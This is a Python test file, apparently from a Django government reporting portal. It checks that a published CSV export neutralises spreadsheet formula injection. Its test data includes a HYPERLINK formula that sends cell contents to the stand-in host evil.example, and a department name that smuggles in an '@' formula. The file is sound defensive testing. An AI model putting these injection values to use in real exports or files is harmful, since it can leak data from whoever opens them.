"""Attacks on the open data: a progress text or a department name written as a spreadsheet
formula must reach the CSV as text, never as a formula Excel or WPS would run."""

import csv
import io

import pytest
from django.urls import reverse

from luoshi.orgs.services import update_organization
from luoshi.portal.models import Publication
from luoshi.reporting import services
from luoshi.testing import department, file_report

pytestmark = pytest.mark.usefixtures("mid_november")

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_a_formula_in_progress_or_a_department_name_reaches_the_csv_as_text(
    client_for, coordinator, commerce_reporter, commerce_head, november
):
    commerce = department("市商务局")
    update_organization(coordinator, commerce, name="@SUM(1+1)*cmd", full_name="", aliases=[])
    report = file_report(
        november.reports.get(organization=commerce), commerce_reporter, commerce_head, text=FORMULA
    )
    services.accept(coordinator, report)
    assert (
        client_for(coordinator)
        .post(reverse("portal:publish", args=[november.plan_id, november.pk]))
        .status_code
        == 302
    )
    publication = Publication.objects.get(withdrawn_at__isnull=True)
    response = client_for(None).get(reverse("portal:publication_csv", args=[publication.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)*cmd" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
